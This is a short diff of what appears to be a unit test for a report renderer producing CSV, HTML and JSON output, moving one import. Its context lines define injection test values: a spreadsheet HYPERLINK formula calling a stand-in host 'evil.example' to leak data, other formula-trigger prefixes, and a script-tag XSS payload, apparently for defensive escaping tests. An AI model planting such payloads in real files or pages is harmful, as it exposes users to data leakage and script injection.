@@ -21,7 +21,8 @@ from server.reports.model import Chart, Report, columns_of, text_rows
 from server.reports.render_csv import render_csv
 from server.reports.render_html import render_html
 from server.reports.render_json import render_json
-from tests.unit.server.reports.report_scenario import baseline_issuers, build, foreign_der
+from tests.inventory_certs import foreign_der
+from tests.unit.server.reports.report_scenario import baseline_issuers, build
 
 FORMULA_OWNERS = ('=HYPERLINK("http://evil.example/?leak","click")', "+1", "-1", "@x")
 SCRIPT = "<script>alert(1)</script>"
